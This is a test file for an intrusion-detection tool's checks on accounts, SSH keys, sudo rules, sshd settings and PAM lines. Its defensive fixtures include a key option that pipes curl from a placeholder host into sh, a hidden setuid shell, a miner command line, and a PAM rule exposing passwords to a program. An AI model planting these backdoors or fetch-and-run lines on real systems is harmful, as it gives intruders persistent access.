// Every signal and guard of who may come in, on facts made by hand: each on what it names, and silent on what only looks like it.

import { describe, expect, it } from 'vitest'
import { ownText } from '../../host-text.ts'
import type {
  AccountFact,
  AuthorizedKeyFact,
  Fact,
  LoginFact,
  PamRuleFact,
  SshdSettingFact,
  SudoRuleFact,
} from '../../probes/facts.ts'
import { aFile, aLogin, aMachine, aProcess, aSocket, meta } from '../fixtures/facts.ts'
import { found, judged, signalsOf } from '../fixtures/judging.ts'
import { changing, seen } from '../fixtures/speaking.ts'
import { accountJudging, pamJudging, sshdJudging, sudoJudging } from './access.ts'
import { keyJudging } from './key.ts'

function anAccount(name: string, change: Partial<AccountFact> = {}): AccountFact {
  return {
    kind: 'account',
    file: meta('/etc/passwd'),
    line: 9,
    raw: ownText(`${name}:x`),
    name: ownText(name),
    uid: 1001,
    gid: 1001,
    home: ownText(`/home/${name}`),
    shell: ownText('/bin/bash'),
    password: 'set',
    passwordDay: null,
    login: 'yes',
    shellListed: 'yes',
    powerfulGroups: [],
    inBackup: 'yes',
    ...change,
  }
}

const fingerprint = `SHA256:${'A'.repeat(43)}`

function aKey(account: string, change: Partial<AuthorizedKeyFact> = {}): AuthorizedKeyFact {
  return {
    kind: 'authorized-key',
    account: ownText(account),
    uid: 0,
    others: [],
    systemAccount: false,
    file: meta(`/home/${account}/.ssh/authorized_keys`),
    line: 1,
    raw: ownText('ssh-ed25519 AAAA x'),
    keyType: ownText('ssh-ed25519'),
    fingerprint,
    options: null,
    comment: ownText('ann@laptop'),
    effective: 'yes',
    ...change,
  }
}

function aGrant(who: string, commands: string, change: Partial<SudoRuleFact> = {}): SudoRuleFact {
  return {
    kind: 'sudo-rule',
    file: meta('/etc/sudoers.d/x', { mode: '0440' }),
    line: 1,
    raw: ownText(`${who} ${commands}`),
    who: ownText(who),
    commands: ownText(commands),
    noPassword: true,
    skipped: false,
    ...change,
  }
}

function aSetting(keyword: string, value: string, change: Partial<SshdSettingFact> = {}): SshdSettingFact {
  return {
    kind: 'sshd-setting',
    file: meta('/etc/ssh/sshd_config'),
    line: 3,
    raw: ownText(`${keyword} ${value}`),
    keyword,
    value: ownText(value),
    match: null,
    ...change,
  }
}

function aPamRule(change: Partial<PamRuleFact>): PamRuleFact {
  return {
    kind: 'pam-rule',
    file: meta('/etc/pam.d/common-auth'),
    line: 1,
    raw: ownText('auth optional pam_x.so'),
    type: 'auth',
    module: ownText('pam_x.so'),
    modulePath: ownText('/usr/lib/security/pam_x.so'),
    owned: 'yes',
    program: null,
    openDoor: false,
    ...change,
  }
}

const guessed: LoginFact = {
  ...aLogin('accepted-after-burst', 41),
  from: ownText('203.0.113.66'),
  sessions: [{ port: 40_121, key: fingerprint }],
}

describe('accounts', () => {
  it.each<[string, readonly string[]]>([
    ['account-second-root', seen(accountJudging, anAccount('ann', { uid: 0 }))],
    ['account-empty-password', seen(accountJudging, anAccount('ann', { password: 'empty' }))],
    ['account-deceiving-field', seen(accountJudging, anAccount('news', { shell: ownText('/usr/sbin/nologin ') }))],
    ['account-shell-lookalike', seen(accountJudging, anAccount('news', { shell: ownText('/usr/sbin/nologin ') }))],
    ['account-system-login', seen(accountJudging, anAccount('news', { uid: 9 }))],
    ['account-powerful-groups', seen(accountJudging, anAccount('ann', { powerfulGroups: [ownText('docker')] }))],
    ['account-not-in-backup', seen(accountJudging, anAccount('ann', { inBackup: 'no' }))],
    [
      'account-changed-in-window',
      seen(accountJudging, anAccount('ann', { passwordDay: 19_675 }), [], { window: changing }),
    ],
    ['account-owners-second-root', seen(accountJudging, anAccount('toor', { uid: 0, password: 'locked' }))],
    ['account-cannot-log-in', seen(accountJudging, anAccount('news', { login: 'no' }))],
  ])('%s', (id, ids) => {
    expect(ids).toContain(id)
  })

  it('of ordinary people and services say nothing', () => {
    expect(seen(accountJudging, anAccount('ann'))).toEqual([])
    expect(seen(accountJudging, anAccount('root', { uid: 0 }))).toEqual([])
    expect(seen(accountJudging, anAccount('backup', { uid: 34, password: 'locked' }))).toEqual([])
  })
})

describe('keys', () => {
  it.each<[string, readonly string[]]>([
    ['key-known-comment', seen(keyJudging, aKey('root', { comment: ownText('mdrfckr') }))],
    ['key-used-after-burst', seen(keyJudging, aKey('root'), [guessed])],
    [
      'key-runs-command',
      seen(keyJudging, aKey('root', { options: ownText('command="curl -s http://a.example/x | sh"') })),
    ],
    ['key-of-system-account', seen(keyJudging, aKey('news', { systemAccount: true }))],
    ['key-file-locked', seen(keyJudging, aKey('root', { file: meta('/root/.ssh/authorized_keys', { flags: 'ia' }) }))],
    ['key-on-several-accounts', seen(keyJudging, aKey('root'), [aKey('ann')])],
    ['key-changed-in-window', seen(keyJudging, aKey('root'), [], { window: changing })],
    ['key-for-one-command', seen(keyJudging, aKey('root', { options: ownText('command="borg serve",restrict') }))],
  ])('%s', (id, ids) => {
    expect(ids).toContain(id)
  })

  it('nobody can place are no proposal', () => {
    const [key] = found(judged([aMachine, aKey('root')]), 'key')
    expect(key?.proposed ?? 'no').not.toBe('yes')
    expect(seen(keyJudging, aKey('root'))).toEqual([])
  })
})

describe('ways to become root', () => {
  const shell = {
    kind: 'setuid-shell',
    file: meta('/var/tmp/.s', { mode: '4755' }),
    shell: ownText('/bin/dash'),
  } as const
  it.each<[string, readonly string[]]>([
    ['sudo-setuid-shell', seen(sudoJudging, shell)],
    ['sudo-anybody-without-password', seen(sudoJudging, aGrant('ALL', 'ALL'))],
    ['sudo-service-without-password', seen(sudoJudging, aGrant('www-data', '/usr/bin/id'))],
    ['sudo-everything-without-password', seen(sudoJudging, aGrant('ann', 'ALL'))],
    [
      'sudo-writable-rules',
      seen(sudoJudging, aGrant('ann', '/usr/bin/id', { file: meta('/etc/sudoers', { mode: '0666' }) })),
    ],
    ['sudo-changed-in-window', seen(sudoJudging, aGrant('ann', '/usr/bin/id'), [], { window: changing })],
  ])('%s', (id, ids) => {
    expect(ids).toContain(id)
  })

  it('that ask for a password, name one command or are skipped by sudo say nothing', () => {
    for (const rule of [
      aGrant('ann', 'ALL', { noPassword: false }),
      aGrant('deploy', '/usr/bin/systemctl restart app'),
      aGrant('ALL', 'ALL', { skipped: true }),
    ])
      expect(seen(sudoJudging, rule)).toEqual([])
  })
})

describe('settings of sshd', () => {
  it.each<[string, readonly string[]]>([
    ['sshd-keys-elsewhere', seen(sshdJudging, aSetting('authorizedkeysfile', '.ssh/authorized_keys /var/tmp/.k'))],
    ['sshd-keys-by-program', seen(sshdJudging, aSetting('authorizedkeyscommand', '/usr/local/lib/k %u'))],
    ['sshd-trusted-signer', seen(sshdJudging, aSetting('trustedusercakeys', '/etc/ssh/ca.pub'))],
    ['sshd-empty-passwords', seen(sshdJudging, aSetting('permitemptypasswords', 'yes'))],
    ['sshd-environment-by-user', seen(sshdJudging, aSetting('permituserenvironment', 'yes'))],
    ['sshd-command-for-all', seen(sshdJudging, aSetting('forcecommand', '/var/tmp/x'))],
    ['sshd-hosts-trusted', seen(sshdJudging, aSetting('hostbasedauthentication', 'yes'))],
    ['sshd-changed-in-window', seen(sshdJudging, aSetting('hostbasedauthentication', 'yes'), [], { window: changing })],
  ])('%s', (id, ids) => {
    expect(ids).toContain(id)
  })

  it('as distributions and clouds set them say nothing', () => {
    for (const [keyword, value] of [
      ['authorizedkeysfile', '.ssh/authorized_keys .ssh/authorized_keys2'],
      ['authorizedkeyscommand', '/usr/bin/sss_ssh_authorizedkeys'],
      ['permitemptypasswords', 'no'],
      ['permituserenvironment', 'no'],
    ] as const)
      expect(seen(sshdJudging, aSetting(keyword, value))).toEqual([])
  })
})

describe('lines of PAM', () => {
  const program = ownText('/usr/local/lib/p')
  it.each<[string, readonly string[]]>([
    ['pam-open-door', seen(pamJudging, aPamRule({ openDoor: true }))],
    [
      'pam-program-hears-password',
      seen(
        pamJudging,
        aPamRule({ program, raw: ownText('auth optional pam_exec.so expose_authtok /usr/local/lib/p') }),
      ),
    ],
    ['pam-program-at-login', seen(pamJudging, aPamRule({ program }))],
    ['pam-unknown-module', seen(pamJudging, aPamRule({ owned: 'no' }))],
    ['pam-changed-in-window', seen(pamJudging, aPamRule({}), [], { window: changing })],
  ])('%s', (id, ids) => {
    expect(ids).toContain(id)
  })

  it('of packages say nothing', () => {
    expect(seen(pamJudging, aPamRule({}))).toEqual([])
    const packaged = aFile('/usr/bin/logger', 'bsdutils')
    expect(seen(pamJudging, aPamRule({ program: ownText('/usr/bin/logger') }), [packaged])).toEqual([])
  })
})

describe('sessions of the intruder', () => {
  const master = aProcess(10, '/usr/sbin/sshd', { ppid: 1 })
  const door = aProcess(50, '/usr/sbin/sshd', { ppid: 10 })
  const shell = aProcess(51, '/bin/bash', { ppid: 50, cmdline: '-bash', argv0: '-bash' })
  const connection = aSocket(50, '203.0.113.66', 40_121)
  const burst: LoginFact = { ...aLogin('failed-burst', 40), from: ownText('203.0.113.66') }
  const miner = aProcess(60, '/var/tmp/.x/m', { cmdline: './m -o stratum+tcp://a.example:443' })
  const of = (pid: number, ...facts: readonly Fact[]) =>
    signalsOf(found(judged(facts), 'process').find(({ params }) => params['pid'] === pid))

  it('are told by the address that guessed, when more is wrong with the host', () => {
    const ids = of(51, master, door, shell, connection, burst, { ...guessed, sessions: [] }, miner)
    expect(ids).toEqual(expect.arrayContaining(['session-of-guesser', 'session-on-hostile-host']))
  })

  it('are told by the key they came in with', () => {
    const key = aKey('root', { comment: ownText('mdrfckr') })
    expect(of(51, master, door, shell, connection, guessed, key)).toContain('session-by-hostile-key')
  })
})
